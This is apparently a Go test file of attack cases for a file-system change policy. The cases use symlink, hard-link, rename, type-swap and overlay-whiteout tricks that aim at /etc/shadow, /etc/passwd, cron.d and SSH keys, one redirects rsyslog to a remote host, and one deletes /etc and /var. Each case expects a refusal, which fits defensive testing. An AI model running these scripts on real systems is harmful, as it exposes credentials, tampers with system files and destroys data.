// SPDX-License-Identifier: Apache-2.0

package attacks

var links = []Attack{
	{
		Name: "symlink-out", Family: "links and renames", Tries: "leaves symlinks in allowed directories that lead to accounts and keys", StoppedBy: Policy,
		Script:  `mkdir -p /opt/condor; ln -s /etc/shadow /opt/condor/shadow; ln -s /etc/shadow /etc/rsyslog.d/50-site.conf; ln -s ../../etc /opt/condor/etc`,
		Outcome: "refused", Refused: []string{"symlink /opt/condor/shadow", "symlink /etc/rsyslog.d/50-site.conf", "symlink /opt/condor/etc"},
	},
	{
		Name: "symlink-detour", Family: "links and renames", Tries: "hides where a symlink leads behind another one and \"..\"", StoppedBy: Policy,
		Script:  `mkdir -p /opt/condor/a/b; ln -s b /opt/condor/a/l; ln -s a/l/../../../../etc/shadow /opt/condor/x; ln -s /opt/condor/../../etc/shadow /opt/condor/y; ln -s /opt/condor//./../condor/z /opt/condor/z`,
		Outcome: "refused", Refused: []string{"symlink /opt/condor/x", "symlink /opt/condor/y", "symlink /opt/condor/z"},
	},
	{
		Name: "symlink-image", Family: "links and renames", Tries: "goes out of an allowed directory by a symlink that the image has there", StoppedBy: Policy,
		Script:  `ln -s /opt/pbs/image/shadow /opt/pbs/x; ln -s image/rsyslog.conf /opt/pbs/y`,
		Outcome: "refused", Refused: []string{"symlink /opt/pbs/x", "symlink /opt/pbs/y"},
	},
	{
		Name: "symlink-proc", Family: "links and renames", Tries: "leaves symlinks that mean something else outside: /proc/self, /dev/fd, /tmp", StoppedBy: Policy,
		Script:  `mkdir -p /opt/condor; ln -s /proc/self/root/etc /opt/condor/a; ln -s /dev/fd/0 /opt/condor/b; ln -s /tmp/x /opt/condor/c; ln -s /run/x /etc/rsyslog.d/x.conf`,
		Outcome: "refused", Refused: []string{"symlink /opt/condor/a", "symlink /opt/condor/b", "symlink /opt/condor/c", "symlink /etc/rsyslog.d/x.conf"},
	},
	{
		Name: "symlink-through", Family: "links and renames", Tries: "writes to the image through a symlink of its own", StoppedBy: Policy,
		Script:  `ln -s /etc/cron.d /tmp/way; mkdir -p /etc/cron.d; echo x >/tmp/way/site; ln -s /etc/passwd /tmp/pw; echo x >>/tmp/pw`,
		Outcome: "refused", Refused: []string{"always-refused /etc/cron.d/site", "always-refused /etc/passwd"},
	},
	{
		Name: "symlink-grammar", Family: "links and renames", Tries: "links a configuration to a file that no grammar looks at", StoppedBy: Policy,
		Script:  `mkdir -p /etc/munge /opt/condor /etc/condor/config.d; echo 'STARTD_CRON_JOBLIST = x' >/opt/condor/x; ln -s /opt/condor/x /etc/condor/config.d/50.config`,
		Outcome: "refused", Refused: []string{"symlink /etc/condor/config.d/50.config"},
	},
	{
		Name: "hardlink-shadow", Family: "links and renames", Tries: "gives /etc/passwd and /etc/crontab a second name in an allowed directory", StoppedBy: Policy,
		Script:  `ln /etc/passwd /opt/condor/p || exit 1; chmod 644 /opt/condor/p; echo x >>/opt/condor/p`,
		Outcome: "refused", Refused: []string{"hard-link /opt/condor/p|always-refused /etc/passwd"},
	},
	{
		Name: "hardlink-scratch", Family: "links and renames", Tries: "links an allowed file to one in /tmp, /run or the disc to write it later", StoppedBy: Mount,
		Script: `echo x >/tmp/f; echo x >/run/f; try tmp ln /tmp/f /etc/rsyslog.d/50-site.conf; try run ln /run/f /etc/rsyslog.d/50-site.conf; try disc ln ./prolog.sh /etc/rsyslog.d/50-site.conf; try host ln /proc/1/root/etc/passwd /etc/rsyslog.d/50-site.conf`,
		Inside: []string{"tmp no", "run no", "disc no", "host no"},
	},
	{
		Name: "rename-in", Family: "links and renames", Tries: "renames a file of the image into an allowed directory, and an allowed one out", StoppedBy: Policy,
		Script:  `mkdir -p /opt/condor; mv /etc/passwd /opt/condor/passwd; mv /etc/rsyslog.conf /etc/rsyslog.d/50-site.conf`,
		Outcome: "refused", Refused: []string{"always-refused /etc/passwd", "path /etc/rsyslog.conf"},
	},
	{
		Name: "rename-directory", Family: "links and renames", Tries: "renames a directory of the image into an allowed one and puts its own in its place", StoppedBy: Policy,
		Script:  `mkdir -p /opt/condor; ./intruder rename=/etc/cron.d:/opt/condor/cron.d; mv /etc/rsyslog.d /etc/rsyslog.old; mkdir /etc/rsyslog.d; echo '*.* @192.0.2.1' >/etc/rsyslog.d/50-site.conf`,
		Inside:  []string{"rename=/etc/cron.d:/opt/condor/cron.d EXDEV|ENOENT"},
		Outcome: "refused", Refused: []string{"path /etc/rsyslog.old"},
	},
	{
		Name: "rename-exchange", Family: "links and renames", Tries: "exchanges an allowed file with /etc/passwd in one call", StoppedBy: Policy,
		Script:  `mkdir -p /opt/condor; echo x >/opt/condor/p; ./intruder exchange=/opt/condor/p:/etc/passwd`,
		Inside:  []string{"exchange=/opt/condor/p:/etc/passwd ok|EINVAL|EXDEV"},
		Outcome: "refused|applied", Refused: []string{"always-refused /etc/passwd"}, Applies: map[string]string{"/opt/condor/p": "x\n"},
	},
	{
		Name: "exchange-directories", Family: "links and renames", Tries: "exchanges an allowed directory with /etc/cron.d in one call", StoppedBy: Mount,
		Script: `./intruder exchange=/etc/rsyslog.d:/etc/cron.d`,
		Inside: []string{"exchange=/etc/rsyslog.d:/etc/cron.d EXDEV"},
	},
	{
		Name: "mount-point", Family: "links and renames", Tries: "removes, renames and replaces a mount point and what leads to it", StoppedBy: Mount,
		Script: `try rmdir rmdir /srv/second; try mv mv /srv/second /srv/other; ./intruder rename=/srv:/srv2 rename=/proc:/proc2 rename=/run/ctxagent:/run/x rename=/var/lib/hepix:/var/lib/x`,
		Inside: []string{"rmdir no", "mv no", "rename=/srv:/srv2 EXDEV|EBUSY", "rename=/proc:/proc2 EBUSY|EXDEV", "rename=/run/ctxagent:/run/x EBUSY", "rename=/var/lib/hepix:/var/lib/x EXDEV|EBUSY"},
	},
	{
		Name: "second-mount", Family: "links and renames", Tries: "writes to a file system that is mounted below the root", StoppedBy: Policy,
		Script:  `echo intruder >/srv/second/new; echo intruder >>/srv/second/file; rm /srv/second/other; chmod 777 /srv/second`,
		Outcome: "refused", Refused: []string{"path /srv/second", "path /srv/second/file", "path /srv/second/new", "path /srv/second/other"},
	},
	{
		Name: "parent-to-symlink", Family: "links and renames", Tries: "replaces a directory on the way to an allowed one by a symlink", StoppedBy: Policy,
		Script:  `mkdir -p /tmp/e; cp -r /etc/rsyslog.d /tmp/e; rm -rf /etc/rsyslog.d; mkdir -p /opt/condor/rsyslog.d; ln -s /opt/condor/rsyslog.d /etc/rsyslog.d; echo 'module(load="omprog")' >/etc/rsyslog.d/50-site.conf`,
		Outcome: "refused", Refused: []string{"path /etc/rsyslog.d|type /etc/rsyslog.d"},
	},
}

var types = []Attack{
	{
		Name: "directory-to-symlink", Family: "types", Tries: "replaces an allowed directory by a symlink to /etc/cron.d", StoppedBy: Policy,
		Script:  `rm -rf /etc/rsyslog.d; ln -s /etc/cron.d /etc/rsyslog.d`,
		Outcome: "refused", Refused: []string{"type /etc/rsyslog.d"},
	},
	{
		Name: "file-to-directory", Family: "types", Tries: "replaces an allowed file by a directory", StoppedBy: Policy,
		Script:  `rm /etc/rsyslog.d/50-default.conf; mkdir /etc/rsyslog.d/50-default.conf; echo x >/etc/rsyslog.d/50-default.conf/x`,
		Outcome: "refused", Refused: []string{"type /etc/rsyslog.d/50-default.conf"},
	},
	{
		Name: "file-to-symlink", Family: "types", Tries: "replaces an allowed file by a symlink to another allowed file", StoppedBy: Policy,
		Script:  `rm /etc/rsyslog.d/50-default.conf; ln -s 60-x.conf /etc/rsyslog.d/50-default.conf`,
		Outcome: "refused", Refused: []string{"type /etc/rsyslog.d/50-default.conf"},
	},
	{
		Name: "file-to-fifo", Family: "types", Tries: "replaces an allowed file by a FIFO at which its reader would wait", StoppedBy: Policy,
		Script:  `rm /etc/rsyslog.d/50-default.conf; mkfifo /etc/rsyslog.d/50-default.conf`,
		Outcome: "refused", Refused: []string{"type /etc/rsyslog.d/50-default.conf"},
	},
	{
		Name: "directory-to-file", Family: "types", Tries: "replaces a whole tree of the image by a file", StoppedBy: Policy,
		Script:  `rm -rf /etc/cron.d /srv/second/tree; echo x >/etc/cron.d; echo x >/srv/second/tree`,
		Outcome: "refused", Refused: []string{"always-refused /etc/cron.d", "type /srv/second/tree"},
	},
	{
		Name: "delete-everything", Family: "types", Tries: "deletes the whole root", StoppedBy: Policy,
		Script:  `rm -rf /etc/* /var/* /opt /srv 2>/dev/null; exit 0`,
		Outcome: "refused",
	},
}

var overlay = []Attack{
	{
		Name: "opaque-recreate", Family: "overlay", Tries: "removes an allowed directory and makes it anew, which hides the image's files in it", StoppedBy: Policy,
		Script:  `rm -rf /etc/rsyslog.d; mkdir /etc/rsyslog.d; echo '*.* @192.0.2.1' >/etc/rsyslog.d/50-site.conf`,
		Outcome: "refused", Refused: []string{"delete /etc/rsyslog.d/50-default.conf"},
	},
	{
		Name: "opaque-forged", Family: "overlay", Tries: "marks a directory as opaque by the overlay's own attributes", StoppedBy: Capability,
		Script: `./intruder setxattr=trusted.overlay.opaque:/etc/rsyslog.d setxattr=trusted.overlay.redirect:/etc/rsyslog.d setxattr=trusted.overlay.metacopy:/etc/rsyslog.d`,
		Inside: []string{"setxattr=trusted.overlay.opaque:/etc/rsyslog.d EPERM", "setxattr=trusted.overlay.redirect:/etc/rsyslog.d EPERM", "setxattr=trusted.overlay.metacopy:/etc/rsyslog.d EPERM"},
	},
	{
		Name: "opaque-user", Family: "overlay", Tries: "marks a directory as opaque by the attributes of an unprivileged overlay", StoppedBy: Harmless,
		Script: `./intruder setxattr=user.overlay.opaque:/etc/rsyslog.d; ls /etc/rsyslog.d | grep -q default && say default there`,
		Inside: []string{"setxattr=user.overlay.opaque:/etc/rsyslog.d ok|EOPNOTSUPP|EPERM", "default there"},
	},
	{
		Name: "whiteout-forged", Family: "overlay", Tries: "makes a whiteout, the device 0:0, by hand to hide that a file is gone", StoppedBy: Mount,
		Script:  `./intruder whiteout=/etc/rsyslog.d/50-site.conf whiteout=/etc/whiteout; rm -f /etc/rsyslog.d/50-default.conf; ./intruder whiteout=/etc/rsyslog.d/50-default.conf`,
		Inside:  []string{"whiteout=/etc/rsyslog.d/50-site.conf EPERM|EACCES", "whiteout=/etc/whiteout EPERM|EACCES", "whiteout=/etc/rsyslog.d/50-default.conf EPERM|EACCES"},
		Outcome: "refused", Refused: []string{"delete /etc/rsyslog.d/50-default.conf"},
	},
	{
		Name: "whiteout-rename", Family: "overlay", Tries: "has a rename leave a whiteout behind (RENAME_WHITEOUT)", StoppedBy: Mount,
		Script: `echo x >/etc/rsyslog.d/a; ./intruder rename-whiteout=/etc/rsyslog.d/a:/etc/rsyslog.d/b; rm -f /etc/rsyslog.d/a /etc/rsyslog.d/b`,
		Inside: []string{"rename-whiteout=/etc/rsyslog.d/a:/etc/rsyslog.d/b EINVAL|EPERM"},
	},
	{
		Name: "whiteout-imported", Family: "overlay", Tries: "makes a whiteout in a scratch directory and moves it into an allowed one", StoppedBy: Mount,
		Script:  `./intruder whiteout=/tmp/w rename=/tmp/w:/etc/rsyslog.d/50-default.conf; mv /tmp/w /etc/rsyslog.d/50-default.conf 2>/dev/null; :`,
		Inside:  []string{"whiteout=/tmp/w ok|EPERM|EACCES", "rename=/tmp/w:/etc/rsyslog.d/50-default.conf EXDEV|ENOENT"},
		Outcome: "unchanged|refused",
	},
	{
		Name: "layers-by-name", Family: "overlay", Tries: "finds the directories that hold its changes and writes past the overlay", StoppedBy: Mount,
		Script: `for d in upper0 work0 lower0 view show0; do try $d ls /$d; done; try mnt ls /mnt/upper0; grep -o 'upperdir=[^,]*' /proc/self/mountinfo | sort -u >/tmp/uppers
			while IFS== read -r _ p; do [ ! -e "$p" ] || say "$p" reachable; done </tmp/uppers`,
		Inside: []string{"upper0 no", "work0 no", "lower0 no", "view no", "show0 no", "mnt no"},
	},
	{
		Name: "show-entries", Family: "overlay", Tries: "removes the empty stand-ins for secrets to see the real files below", StoppedBy: Policy,
		Script:  `rm -f /etc/shadow; [ ! -s /etc/shadow ] || say shadow readable; rm -rf /root/.ssh; [ ! -s /root/.ssh/authorized_keys ] || say keys readable; mkdir -p /root/.ssh; [ ! -s /root/.ssh/authorized_keys ] || say keys readable`,
		Outcome: "refused", Refused: []string{"always-refused /etc/shadow"},
	},
}
